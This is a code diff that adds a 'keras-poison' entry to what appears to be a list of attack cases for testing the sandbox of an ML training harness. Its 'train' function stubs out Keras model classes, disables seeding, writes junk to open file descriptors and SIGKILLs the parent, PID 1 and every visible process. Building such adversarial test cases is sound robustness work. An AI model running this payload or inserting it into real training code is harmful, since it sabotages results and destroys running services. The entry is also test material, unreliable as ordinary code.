@@ -222,4 +222,28 @@ def train(model, images, labels):
         },
         honest=8,
     ),
+    Attack(
+        "keras-poison",
+        "patches Keras, writes to all that is open, and kills whoever it can find, in a kernel of the parent that has Keras",
+        "poisoning a warm worker, killing the supervisor, file descriptors",
+        "stock starts a kernel for each notebook",
+        functions={
+            "train": """
+import os, signal
+def train(model, images, labels):
+    keras.Sequential = keras.Model = keras.layers.Dense = keras.layers.Conv2D = lambda *a, **k: None
+    keras.backend.set_floatx('float16')
+    keras.utils.set_random_seed = lambda seed: None
+    for number in range(3, 300):
+        try: os.write(number, b'4194303')
+        except OSError: pass
+    for process in (1, os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))):
+        if process not in (0, os.getpid()):
+            try: os.kill(process, signal.SIGKILL)
+            except OSError: pass
+    return model
+"""
+        },
+        honest=8,
+    ),
 ]
